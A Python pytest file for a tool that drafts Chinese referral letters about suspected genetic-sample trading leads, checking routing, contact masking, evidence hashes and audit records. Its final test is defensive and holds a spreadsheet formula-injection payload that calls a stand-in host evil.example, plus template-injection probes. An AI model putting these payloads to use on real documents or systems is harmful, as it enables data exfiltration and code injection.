from __future__ import annotations

import json
import re
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from docx import Document as read_docx
from docx.oxml.ns import qn
from hostile import ATTACKS, SECRET, hostile
from hostile import NOW as ATTACKED_AT
from nights import NOW, advert, document

from core.errors import InputError, PluginError
from core.labels import hooks, labels
from core.settings import Settings
from core.store import Store
from core.types import Act, Capture, Decision, Judgement, Lead, Provenance
from reports.cells import written
from reports.referral.report import build, refer, write
from reports.referral.routing import load

SHIPPING, TESTING, RECRUITING = "L0000000000", "L0000000001", "L0000000003"


def words(path: Path) -> str:
    """All text of a letter, tables included, in order."""
    docx = read_docx(str(path))
    cells = [cell.text for table in docx.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in docx.paragraphs), *cells])


def letters(store: Store, settings: Settings, tmp_path: Path, *leads: str, **options: Any) -> dict[str, str]:
    data = build(store, settings, NOW, leads=leads, **options)
    return {path.stem.rpartition("-")[2]: words(path) for path in write(data, tmp_path) if path.suffix == ".docx"}


# -- routing ----------------------------------------------------------------------------------------------------------


def test_every_flagged_label_leads_to_a_department(settings: Settings) -> None:
    routing = load(settings.workspace)
    assert {name for name, label in labels().items() if label.flagged} == set(routing.labels)
    assert "国卫家庭发〔2014〕90号" in routing.basis["zh"]


def test_leads_are_sorted_into_letters_by_their_label(store: Store, settings: Settings, tmp_path: Path) -> None:
    found = letters(store, settings, tmp_path, SHIPPING, TESTING, RECRUITING, region="广东省")
    assert set(found) == {"customs", "health"}
    assert "主送：＿＿＿＿海关" in found["customs"]
    assert "主送：广东省卫生健康委员会" in found["health"]
    assert SHIPPING in found["customs"]
    assert TESTING in found["health"]
    assert RECRUITING in found["health"]
    assert SHIPPING not in found["health"]


def test_a_workspace_routes_as_it_likes(store: Store, settings: Settings, tmp_path: Path) -> None:
    own = "departments: {harbour: {zh: 口岸办, en: port office}}\nlabels: {sample_shipping_ad: {to: harbour, copies: [police]}}\n"
    (settings.workspace / "referral.yml").write_text(own, "utf-8")
    found = letters(store, settings, tmp_path, SHIPPING, TESTING)
    assert set(found) == {"harbour", "health"}
    assert "口岸办" in found["harbour"]


@pytest.mark.parametrize(
    ("own", "said"),
    [
        ("labels: {sample_shiping_ad: {to: police}}", "did you mean 'sample_shipping_ad'"),
        ("labels: {sample_shipping_ad: {to: polce}}", "did you mean 'police'"),
        ("labels: {sample_shipping_ad: {copies: [police]}}", "expects keys to and copies"),
        ("labels: [police]", "expects a mapping"),
        ("label: {}", "did you mean 'labels'"),
        ("departments: {harbour: {zh: 口岸办}}", "expects names zh and en"),
    ],
)
def test_a_wrong_table_is_named_by_path_key_and_nearest_word(settings: Settings, own: str, said: str) -> None:
    (settings.workspace / "referral.yml").write_text(own, "utf-8")
    with pytest.raises(PluginError, match=rf"referral\.yml: .*{re.escape(said)}"):
        load(settings.workspace)


# -- what the letter says ---------------------------------------------------------------------------------------------


def test_the_law_is_what_the_lead_falls_under_and_nobody_is_said_to_have_broken_it(
    store: Store, settings: Settings, tmp_path: Path
) -> None:
    text = letters(store, settings, tmp_path, SHIPPING)["customs"]
    assert "涉及" in text
    for hook in hooks(labels()["sample_shipping_ad"]):
        assert hook in text
    assert "待核实 unconfirmed" in text  # what no source was read for says so to whoever gets the letter
    assert "线索，不是结论" in text
    assert not re.search("违反了|构成犯罪|犯有|commits", text)


def test_contacts_are_masked_in_a_draft_and_in_full_when_revealed(
    store: Store, settings: Settings, tmp_path: Path
) -> None:
    draft = letters(store, settings, tmp_path / "a", SHIPPING)["customs"]
    assert "zq0yangben88" not in draft
    assert "草稿" in draft
    full = letters(store, settings, tmp_path / "b", SHIPPING, reveal=True)["customs"]
    assert "zq0yangben88" in full
    assert "草稿" not in full


def test_the_evidence_list_has_each_capture_with_its_hash_and_each_text_with_its_own(
    store: Store, settings: Settings, tmp_path: Path
) -> None:
    run = store.runs.start("crawl", NOW, {})
    capture = Capture(
        "urn:uuid:zq0",
        "baobao-forum",
        "http://baobao-forum.example/t/9",
        NOW,
        200,
        "text/html",
        "cd" * 32,
        77,
        "a.warc.gz",
        5,
        "allowed",
        Provenance.LIVE,
        run,
    )
    store.captures.add(capture)
    lead = store.leads.get(SHIPPING)
    assert lead is not None
    id = document(store, "baobao-forum", "9", "寄血样的路", "全国上门取样", NOW, run, "urn:uuid:zq0", 0)
    store.leads.put(
        Lead(**{**{name: getattr(lead, name) for name in Lead.__slots__}, "documents": (*lead.documents, id)}), {}, NOW
    )
    data = build(store, settings, NOW + timedelta(hours=1), leads=[SHIPPING])
    [row] = [row for row in data["letters"][0]["exhibits"] if row["document"] == id]
    assert (row["sha256"], row["archive"], row["time_beijing"]) == (
        "cd" * 32,
        "a.warc.gz @5",
        "2026-11-21T06:30:00+08:00",
    )
    assert row["text_sha256"] == __import__("hashlib").sha256("寄血样的路\n全国上门取样".encode()).hexdigest()
    paths = write(data, tmp_path)
    assert "cd" * 32 in words(paths[0])
    sheet = openpyxl.load_workbook(paths[-1])["证据 evidence"]
    assert row["text_sha256"] in [cell.value for line in sheet.iter_rows() for cell in line]


def test_the_letter_is_set_in_mainland_chinese(store: Store, settings: Settings, tmp_path: Path) -> None:
    paper = read_docx(str(write(build(store, settings, NOW, leads=[SHIPPING]), tmp_path)[0]))
    assert {lang.get(qn("w:eastAsia")) for lang in paper.styles.element.iter(qn("w:lang"))} == {"zh-CN"}


def test_hand_over_signatures_are_blank(store: Store, settings: Settings, tmp_path: Path) -> None:
    data = build(store, settings, NOW, leads=[SHIPPING])
    table = read_docx(str(write(data, tmp_path)[0])).tables[-1]
    assert "移送人（一）" in table.rows[0].cells[0].text
    assert [row.cells[place].text for row in table.rows for place in (1, 3)] == [""] * 8


def test_who_reviewed_the_lead_is_told_and_a_lead_nobody_looked_at_says_so(
    store: Store, settings: Settings, tmp_path: Path
) -> None:
    assert "尚无人工复核" in letters(store, settings, tmp_path / "a", SHIPPING)["customs"]
    store.decisions.add(Decision(SHIPPING, Act.CONFIRM, "zq0mei", NOW, "genetic_acquisition_ad"))
    text = letters(store, settings, tmp_path / "b", SHIPPING)
    assert "已确认 confirmed：zq0mei" in text["health"]  # the label that the person gave routes it


def test_a_rejected_lead_is_not_referred_until_the_rejection_is_undone(store: Store, settings: Settings) -> None:
    store.decisions.add(Decision(SHIPPING, Act.REJECT, "zq0", NOW))
    with pytest.raises(InputError, match="was rejected by zq0"):
        build(store, settings, NOW, leads=[SHIPPING])
    store.decisions.add(Decision(SHIPPING, Act.UNDO, "zq0", NOW))
    assert build(store, settings, NOW, leads=[SHIPPING])["letters"]


def test_no_word_of_a_seeker_is_handed_over(store: Store, settings: Settings, tmp_path: Path) -> None:
    lead = store.leads.get(TESTING)
    assert lead is not None
    asks = advert(store, "baobao-forum", "asks", SECRET, SECRET, NOW)
    store.judgements.add([(asks, 1, Judgement("seeker", False, 0.0, "person:zq0"))], NOW)
    store.leads.put(
        Lead(
            **{
                **{name: getattr(lead, name) for name in Lead.__slots__},
                "documents": (*lead.documents, asks),
                "title": SECRET,
            }
        ),
        {},
        NOW,
    )
    data = build(store, settings, NOW, leads=[TESTING], reveal=True)
    assert SECRET not in json.dumps(data, ensure_ascii=False)
    assert data["letters"][0]["leads"][0]["left_out"] == 1
    assert SECRET not in words(write(data, tmp_path)[0])


def test_the_referral_is_in_the_ledger_lead_by_lead(store: Store, settings: Settings) -> None:
    paths, _ = refer(store, settings, NOW, [SHIPPING, TESTING], by="zq0", reveal=True)
    entries = [entry for entry in store.ledger.entries() if entry["action"] == "referral written"]
    assert [entry["object"] for entry in entries] == [SHIPPING, TESTING]
    assert json.loads(entries[0]["payload"])["contacts"] == "in full"
    assert set(json.loads(entries[0]["payload"])["files"]) == {path.name for path in paths}
    assert {path.stat().st_mode & 0o777 for path in paths} == {0o600}


def test_an_unknown_lead_and_no_lead_at_all_are_refused(store: Store, settings: Settings) -> None:
    with pytest.raises(InputError, match="L404"):
        build(store, settings, NOW, leads=["L404"])
    with pytest.raises(InputError, match="xuncha referral"):
        build(store, settings, NOW)


# -- nothing lives ----------------------------------------------------------------------------------------------------


def test_whatever_a_page_says_stays_text_in_the_letter_and_in_the_lists(settings: Settings, tmp_path: Path) -> None:
    with hostile(*ATTACKS) as store:
        data = build(store, settings, ATTACKED_AT, leads=[lead.id for lead in store.leads.queue(99)], reveal=True)
        paths = write(data, tmp_path / "a" / "b")
    assert sorted(path for path in tmp_path.rglob("*") if path.is_file() and path.suffix != ".toml") == sorted(paths)
    docx, xlsx = paths
    with zipfile.ZipFile(docx) as parts:
        inside = {name: parts.read(name).decode("utf-8", "ignore") for name in parts.namelist()}
    body = inside["word/document.xml"]
    assert "w:instrText" not in body
    assert "w:fldSimple" not in body
    assert "w:hyperlink" not in body
    assert "<script" not in body
    fields = re.findall(r"<w:instrText>(.*?)</w:instrText>", "".join(inside.values()))
    assert fields == ["PAGE", "NUMPAGES"]
    assert not [name for name in inside if "vba" in name or "embeddings" in name]
    assert 'TargetMode="External"' not in "".join(inside.values())
    text = words(docx)
    for attack in ('=HYPERLINK("http://evil.example/?"&A1,"click")', "{{ 7*7 }}${7*7}<%= 7*7 %>"):
        assert written(attack) in text
    book = openpyxl.load_workbook(xlsx)
    cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
    assert not [cell for cell in cells if cell.hyperlink]
